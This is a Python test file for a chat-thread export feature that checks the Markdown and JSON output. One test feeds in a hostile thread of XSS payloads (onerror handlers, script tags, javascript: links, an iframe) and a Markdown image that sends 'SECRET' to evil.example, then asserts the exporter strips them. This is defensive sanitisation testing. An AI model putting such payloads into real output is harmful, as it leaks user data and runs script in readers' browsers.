"""A thread exported as Markdown and as JSON."""

from __future__ import annotations

import json
from pathlib import Path

from albert.chat.export import export_json, export_markdown
from albert.cloudflare.sql import WorkersSql
from albert.protocol.http import Feedback, ThreadExport, ToolCallRecord
from albert.storage.migrations import THREADS, migrate
from albert.storage.threads import ThreadStore
from miniflare import install_shims
from miniflare.storage import SqlStorage
from tests.albert.storage.test_threads import StepClock
from tests.support.markdown_check import unsafe_tokens

install_shims()
NOW = 1_767_225_600_000  # 2026-01-01 00:00 UTC


def sample(tmp_path: Path) -> ThreadStore:
    store = ThreadStore(WorkersSql(SqlStorage(tmp_path / "o.sqlite")), StepClock())
    migrate(store._sql, THREADS)
    store.create_thread("t_a", "Vaults on Base")
    store.add_message(
        message_id="m_1", thread_id="t_a", turn_id="m_1", role="user", content="Top vaults?"
    )
    store.add_message(
        message_id="m_1:r:a0",
        thread_id="t_a",
        turn_id="m_1",
        role="assistant",
        content="Looking.",
        tool_calls=[ToolCallRecord(id="c1", name="search_vaults", arguments='{"chain":"base"}')],
    )
    store.add_message(
        message_id="m_1:r:t0:c1",
        thread_id="t_a",
        turn_id="m_1",
        role="tool",
        content='{"vaults": []}',
        tool_call_id="c1",
        name="search_vaults",
        meta={
            "source": "vaults",
            "duration_ms": 1234.5,
            "truncated": True,
            "arguments": {"chain": "base"},
        },
    )
    store.add_message(
        message_id="m_1:r:a1",
        thread_id="t_a",
        turn_id="m_1",
        role="assistant",
        content="| Vault | APY |\n| --- | ---: |\n| USDC | 6% |",
        finish_reason="stop",
    )
    store.supersede_answer("t_a", "m_1")
    store.add_message(
        message_id="m_1:s:a0",
        thread_id="t_a",
        turn_id="m_1",
        role="assistant",
        content="Regenerated answer.",
        finish_reason="stop",
    )
    store.set_feedback("t_a", "m_1", Feedback(rating="up", comment="clear", at=NOW))
    return store


def test_markdown_export_reads_as_the_conversation(tmp_path: Path) -> None:
    store = sample(tmp_path)
    text = export_markdown(store.get_thread("t_a"), store.all_messages("t_a"), NOW)
    assert text.startswith("# Vaults on Base\n\n_Exported from Albert on 2026-01-01 00:00 UTC._")
    assert "## You · " in text and "Top vaults?" in text
    current = text.index("## Albert")
    assert text.index("Regenerated answer.") > current
    assert "_Feedback: up: clear_" in text
    earlier = text.index("### Earlier answer 1")
    assert earlier > text.index("Regenerated answer.")
    assert '> Tool `search_vaults` on vaults `{"chain": "base"}`: ok, 1.2 s, cut to fit' in text
    assert "| USDC | 6% |" in text[earlier:]


def test_json_export_has_every_message_and_round_trips(tmp_path: Path) -> None:
    store = sample(tmp_path)
    export = export_json(store.get_thread("t_a"), store.all_messages("t_a"), NOW)
    again = ThreadExport.model_validate(json.loads(export.model_dump_json()))
    assert again.format == "albert.thread.v1" and again.exported_at == NOW
    assert again.thread.title == "Vaults on Base"
    assert [m.id for m in again.messages] == [
        "m_1",
        "m_1:r:a0",
        "m_1:r:t0:c1",
        "m_1:r:a1",
        "m_1:s:a0",
    ]
    assert again.messages[1].meta["version"] == 1
    assert again.messages[-1].meta["feedback"]["rating"] == "up"


def test_a_hostile_thread_exports_without_html_images_or_script_links(tmp_path: Path) -> None:
    store = ThreadStore(WorkersSql(SqlStorage(tmp_path / "o.sqlite")), StepClock())
    migrate(store._sql, THREADS)
    store.create_thread("t_h", "<img src=x onerror=alert(1)> [t](javascript:alert(1))")
    store.add_message(
        message_id="m_1",
        thread_id="t_h",
        turn_id="m_1",
        role="user",
        content="<script>alert(1)</script> ![x](https://evil.example/u.png)",
    )
    store.add_message(
        message_id="m_1:r:t0:c1",
        thread_id="t_h",
        turn_id="m_1",
        role="tool",
        content="{}",
        tool_call_id="c1",
        name="search_vaults",
        meta={
            "source": "<b>vaults</b>",
            "arguments": {"q": "` <img src=x onerror=alert(2)> `", "n": "``` [a](javascript:x)"},
        },
    )
    store.add_message(
        message_id="m_1:r:a1",
        thread_id="t_h",
        turn_id="m_1",
        role="assistant",
        content=(
            "![pixel](https://evil.example/p?d=SECRET)\n<iframe src=x></iframe>\n"
            "[docs](https://aave.com) [run](javascript:alert(3))\n```html\n<b>code</b>"
        ),
        finish_reason="stop",
    )
    store.set_feedback("t_h", "m_1", Feedback(rating="down", comment="<img src=y>", at=NOW))
    text = export_markdown(store.get_thread("t_h"), store.all_messages("t_h"), NOW)
    assert unsafe_tokens(text) == [], text
    # What stays: the plain link, the code, the tool's arguments whole in one code span.
    assert "[docs](https://aave.com)" in text and "```html\n<b>code</b>\n```" in text
    args = '{"q": "` <img src=x onerror=alert(2)> `", "n": "``` [a](javascript:x)"}'
    assert f"> Tool `search_vaults` on &lt;b>vaults&lt;/b> ````{args}````: ok" in text
